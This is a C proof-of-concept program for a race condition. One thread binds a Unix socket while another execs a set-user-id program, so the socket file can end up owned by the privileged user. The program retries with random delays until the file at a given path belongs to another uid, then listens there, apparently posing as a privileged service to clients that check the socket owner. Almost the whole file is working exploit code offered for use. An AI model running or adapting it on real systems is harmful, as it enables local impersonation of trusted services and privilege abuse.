/* One thread (the process's first) binds a unix socket; another one executes a set-user-id program meanwhile, which takes
 * the first one's id over: whoever asks then who the caller is gets the other program's user.
 *
 * owning OWN_PATH HOST_PATH SECONDS MAX_MICROSECONDS PROGRAM [ARGUMENT...]
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile int *begun;
static long delay;
static char **program;

static long now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000L + t.tv_nsec;
}

static void *executes(void *unused)
{
	int null = open("/dev/null", O_RDWR);
	long end;

	dup2(null, 1);
	dup2(null, 2);
	while (!*begun)
		;
	end = now() + delay;
	while (now() < end)
		;
	execv(program[0], program);
	_exit(1);
	return unused;
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	long most = atol(argv[4]), tries = 0, bound = 0, own = 0;
	time_t end = time(0) + atoi(argv[3]);
	unsigned seed = getpid();

	strcpy(address.sun_path, argv[1]);
	program = argv + 5;
	begun = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	while (time(0) < end) {
		struct sockaddr_un name = {};
		socklen_t size = sizeof(name);
		struct stat file;
		int sock = socket(AF_UNIX, SOCK_STREAM, 0), pid;

		tries++;
		*begun = 0;
		delay = rand_r(&seed) % (most * 1000);
		pid = fork();
		if (!pid) {
			pthread_t thread;

			pthread_create(&thread, 0, executes, 0);
			usleep(200);
			*begun = 1;
			bind(sock, (void *)&address, sizeof(address));
			pthread_join(thread, 0);
			_exit(0);
		}
		waitpid(pid, 0, 0);
		listen(-1, 1); /* served after the other call */
		getsockname(sock, (void *)&name, &size);
		if (size > 2) {
			bound++;
			if (!stat(argv[2], &file)) {
				if (file.st_uid == getuid() && file.st_gid == getgid()) {
					own++;
				} else if (!listen(sock, 5)) {
					printf("listens at a socket of %d:%d (try %ld, after %ld us; %ld bound)\n", file.st_uid,
					       file.st_gid, tries, delay / 1000, bound);
					fflush(stdout);
					pause();
				}
			}
		}
		close(sock);
	}
	printf("never: %ld tries, %ld bound, %ld as who he is\n", tries, bound, own);
	return 0;
}
